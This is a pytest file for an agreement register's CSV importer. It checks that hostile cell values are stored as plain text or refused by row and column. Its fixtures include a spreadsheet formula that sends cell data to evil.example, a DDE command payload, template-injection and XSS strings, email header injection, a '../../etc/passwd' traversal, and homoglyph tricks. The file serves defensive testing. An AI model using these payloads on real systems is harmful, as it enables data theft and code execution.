"""X-01 to X-17: each hostile cell is stored as the text it is, or refused by row and column."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from sqlalchemy import select

from jobs.importing import import_files
from reminder.storage import tables
from tests.registers import (
    BUREAUS,
    agreement_csv,
    context_for,
    csv_text,
    import_small,
    refused,
    write_files,
)

if TYPE_CHECKING:
    from jobs.context import JobContext
    from reminder.storage.engine import Database


@pytest.fixture
def context(sqlite_database: Database, tmp_path: Path) -> JobContext:
    return context_for(sqlite_database, tmp_path)


def _titles(context: JobContext) -> list[str]:
    with context.database.read() as connection:
        return list(connection.scalars(select(tables.agreements.c.title)))


@pytest.mark.parametrize(
    "title",
    [
        pytest.param('=HYPERLINK("https://evil.example/?"&A1,"klik")', id="X-01: formula"),
        pytest.param("@SUM(1+1)*cmd|'/c calc'!A0", id="X-02: DDE"),
        pytest.param("＝1+1", id="X-03: fullwidth formula"),
        pytest.param("{{ config }}", id="X-07: template"),
        pytest.param("{% for x in y %}{{ ''.__class__ }}", id="X-07: template loop"),
        pytest.param("<script>alert(1)</script>", id="X-08: script"),
        pytest.param("<img src=x onerror=alert(1)>", id="X-08: image"),
        pytest.param("</td></table>", id="X-08: table end"),
        pytest.param("width: expression(alert(1))", id="X-08: CSS expression"),
        pytest.param("раjak", id="X-10: letters of two scripts in a title"),
    ],
)
def test_hostile_title_is_stored_as_text(context: JobContext, tmp_path: Path, title: str) -> None:
    folder = write_files(
        tmp_path / "in", {"bureaus": BUREAUS, "agreements": agreement_csv(title=title)}
    )
    import_files(context, [folder])
    assert _titles(context) == [title]


def test_guarded_cell_loses_its_guard_once(context: JobContext, tmp_path: Path) -> None:
    folder = write_files(
        tmp_path / "in", {"bureaus": BUREAUS, "agreements": agreement_csv(title="'=1+1")}
    )
    import_files(context, [folder])
    assert _titles(context) == ["=1+1"]


@pytest.mark.parametrize(
    ("column", "value", "shown"),
    [
        pytest.param("title", "\t=1+1", "\\x09=1+1", id="X-03: tab before a formula"),
        pytest.param("title", "\r=1+1", "\\x0d=1+1", id="X-03: CR before a formula"),
        pytest.param("partner", "PT X\r\nBcc: all@example.org", "\\x0d\\x0aBcc", id="X-04: CR LF"),
        pytest.param("partner", "Biro\u2028Bcc: x@example.org", "\\u2028Bcc", id="X-05: U+2028"),
        pytest.param("partner", "Biro\x85Bcc", "\\x85Bcc", id="X-05: NEL"),
        pytest.param("partner", "Biro\x0bBcc", "\\x0bBcc", id="X-05: vertical tab"),
        pytest.param("partner", "Bi\0ro", "Bi\\x00ro", id="X-06: NUL"),
        pytest.param("title", "x" * 1_000_000, "1,000,000", id="X-09: a megabyte"),
        pytest.param("title", "a" + "\u0300" * 499, "marks on one letter", id="X-09: marks"),
        pytest.param("title", "a\u202eb", "\\u202e", id="X-10: bidi override"),
        pytest.param("officer", "a@раjak.go.id", "different scripts", id="X-10: homoglyph domain"),
        pytest.param("ref", "KSD\u200d1", "\\u200d", id="X-10: joiner in a key"),
        pytest.param("signed_on", "31/02/2026", "31/02/2026", id="X-12: 31 February"),
        pytest.param("signed_on", "02/03/2026", "ambiguous", id="X-12: ambiguous"),
        pytest.param("signed_on", "20260131", "write 2026-01-31", id="X-12: no dashes"),
        pytest.param("signed_on", "9999-12-31", "outside", id="X-14: for ever"),
        pytest.param("term", "-1", '"-1"', id="X-15: negative"),
        pytest.param("term", "selamanya", "leave the cell empty", id="X-15: for ever"),
        pytest.param("term", "3,5 tahun", "42 months", id="X-15: a fraction"),
    ],
)
def test_hostile_cell_is_refused_by_row_and_column(
    context: JobContext, tmp_path: Path, column: str, value: str, shown: str
) -> None:
    folder = write_files(
        tmp_path / "in",
        {"bureaus": BUREAUS, "agreements": agreement_csv(**{column: value})},
    )
    (problem,) = refused(context, folder)
    assert (problem.file, problem.line) == ("agreements.csv", 2)
    assert problem.key.endswith(column)
    assert shown in str(problem)
    assert str(problem).isprintable()
    assert _titles(context) == []


@pytest.mark.parametrize(
    ("value", "stored"), [("1 Januari 2026", "2026-01-01"), ("1 Peb 2026", "2026-02-01")]
)
def test_date_in_words_is_stored(
    context: JobContext, tmp_path: Path, value: str, stored: str
) -> None:
    folder = write_files(
        tmp_path / "in", {"bureaus": BUREAUS, "agreements": agreement_csv(signed_on=value)}
    )
    import_files(context, [folder])
    with context.database.read() as connection:
        assert connection.scalar(select(tables.agreements.c.signed_on)) == stored


def test_empty_term_is_no_term(context: JobContext, tmp_path: Path) -> None:
    folder = write_files(
        tmp_path / "in", {"bureaus": BUREAUS, "agreements": agreement_csv(term="")}
    )
    import_files(context, [folder])
    with context.database.read() as connection:
        assert connection.scalar(select(tables.agreements.c.term)) is None


def test_expiry_before_signing_is_refused(context: JobContext, tmp_path: Path) -> None:
    row = agreement_csv(signed_on="2026-05-31", expires_on="2026-04")
    folder = write_files(tmp_path / "in", {"bureaus": BUREAUS, "agreements": row})
    (problem,) = refused(context, folder)
    assert problem.key == "KSD-1: expires_on"
    assert "2026-04 is before the signing 2026-05-31" in problem.message


def test_expiry_in_the_year_of_signing_is_no_contradiction(
    context: JobContext, tmp_path: Path
) -> None:
    row = agreement_csv(signed_on="2026-05-31", expires_on="2026")
    import_files(context, [write_files(tmp_path / "in", {"bureaus": BUREAUS, "agreements": row})])
    assert _titles(context) == ["Kerja sama"]


@pytest.mark.parametrize("zone", ["Asia/Jakrta", "../../etc/passwd", "UTC+7"])
def test_unknown_zone_is_refused(context: JobContext, tmp_path: Path, zone: str) -> None:
    bureaus = csv_text(["code", "name", "timezone"], [["B-01", "Biro", zone]])
    (problem,) = refused(context, write_files(tmp_path / "in", {"bureaus": bureaus}))
    assert (problem.file, problem.line, problem.key) == ("bureaus.csv", 2, "B-01: timezone")


def test_wib_is_the_zone_of_jakarta(context: JobContext, tmp_path: Path) -> None:
    bureaus = csv_text(["code", "name", "timezone"], [["B-01", "Biro", "WIB"]])
    import_files(context, [write_files(tmp_path / "in", {"bureaus": bureaus})])
    with context.database.read() as connection:
        assert connection.scalar(select(tables.bureaus.c.timezone)) == "Asia/Jakarta"


@pytest.mark.parametrize(
    "twin", ["KSD-1", "ksd-1", "KSD\u20131", "KSD -1", "KSD\u00a0-\u00a01"], ids=ascii
)
def test_two_keys_that_look_alike_are_refused_by_both_rows(
    context: JobContext, tmp_path: Path, twin: str
) -> None:
    rows = [[ref, "Kerja sama", "KSDPL", "B-01"] for ref in ("KSD-1", "KSD-2", twin)]
    agreements = csv_text(["ref", "title", "kind", "bureau"], rows)
    folder = write_files(tmp_path / "in", {"bureaus": BUREAUS, "agreements": agreements})
    (problem,) = refused(context, folder)
    assert problem.line == 4
    assert "agreements.csv:2" in problem.message


def test_new_key_that_looks_like_a_stored_one_is_refused(
    context: JobContext, tmp_path: Path
) -> None:
    import_small(context, tmp_path / "first")
    folder = write_files(tmp_path / "in", {"agreements": agreement_csv(ref="KSD\u20131")})
    (problem,) = refused(context, folder)
    assert 'looks like "KSD-1", which is in the register' in problem.message
    assert _titles(context) == ["Kerja sama pendidikan"]
